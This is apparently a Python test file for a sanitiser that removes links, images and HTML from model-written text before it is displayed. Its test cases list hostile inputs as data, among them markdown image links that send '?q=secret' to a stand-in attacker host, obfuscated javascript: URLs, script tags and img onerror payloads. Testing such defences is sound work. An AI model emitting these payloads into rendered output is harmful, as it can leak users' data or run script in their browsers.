"""Nothing a model writes can be followed or loaded when it is shown."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.answers.inert_text import inert, live_spans

_ADDRESS = r"[a-z][a-z0-9+.-]+:(//|\\\\)|\bwww\.|\b(javascript|vbscript|data|mailto|file):\S"
_LIVE = re.compile(rf"!\[|\]\s?\(|<[a-z/!?]|{_ADDRESS}", re.IGNORECASE)


def plain(text: str, *known: str) -> str:
    return inert(text, known_addresses=known, max_chars=1_000)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("The gate opens at 7.", "The gate opens at 7."),
        ("See ![map](https://evil.example/p.png?q=secret) here.", "See here."),
        ("See ![](//evil.example/p.png) here.", "See here."),
        ("See ![map][1] here.\n[1]: https://evil.example/", "See here."),
        ("See [the set](https://evil.example/open?q=1).", "See the set."),
        ("See [the set](https://evil.example/a_(b)?q=1).", "See the set."),
        ("See [the set][ref].", "See the set."),
        ("See [a [nested](https://evil.example/) one](https://evil.example/).", "See a nested one"),
        ("See [<img src=x>](https://evil.example).", "See ."),
        ("See <https://evil.example/?q=1>.", "See ."),
        ("See https://evil.example/?q=1 now.", "See now."),
        ("See HTTPS://evil.example now.", "See now."),
        ("See www.evil.example/x now.", "See now."),
        ("See javascript:alert(1) now.", "See now."),
        ("See java\u200bscript:alert(1) now.", "See now."),
        ("See java\x01script:alert(1) now.", "See now."),
        ("See &#106;avascript:alert(1) now.", "See now."),
        ("See &lt;img src=x onerror=alert(1)&gt; now.", "See now."),
        ("See &amp;lt;img src=x&amp;gt; now.", "See now."),
        ("See data:text/html;base64,PHNjcmlwdD4= now.", "See now."),
        ("See <script>alert(1)</script> now.", "See alert(1) now."),
        ("See <img src=x onerror=alert(1)", "See src=x onerror=alert(1)"),
        ("See <<b>script>alert(1) now.", "See < script>alert(1) now."),
        ("See ht<b></b>tps://evil.example now.", "See ht now."),
        ("5 < 7 and 7 > 5", "5 < 7 and 7 > 5"),
        ("at 9:30, data: none", "at 9:30, data: none"),
        ("Mail ana@example.org.", "Mail ana@example.org."),
    ],
)
def test_links_pictures_and_html_are_taken_out(written: str, shown: str) -> None:
    assert plain(written) == shown


def test_an_address_that_the_notes_hold_is_shown_without_what_makes_it_a_link() -> None:
    assert plain("It is at https://school.example/map.", "school.example/map") == "It is at school.example/map"
    assert plain("It is at https://school.example/map?q=secret.", "school.example/map") == "It is at"


def test_a_text_too_long_is_cut() -> None:
    assert len(inert("word " * 1_000, max_chars=50)) <= 50


_MARKS = list("![]()<>/:aifx \n\\'=-\"\u200b")
_WORDS = ["http", "://", "s", "javascript", "data", "www.", "img", "ev.example", "?q=1", "&lt;", "&#58;", "&amp;"]
_PIECES = st.sampled_from(_MARKS + _WORDS)


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_nothing_live_is_left_of_whatever_was_put_together(written: str) -> None:
    shown = plain(written)
    assert _LIVE.search(shown) is None
    assert plain(shown) == shown


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_live_stretches_lie_within_their_text(text: str) -> None:
    assert all(0 <= span.start < span.end <= len(text) for span in live_spans(text))
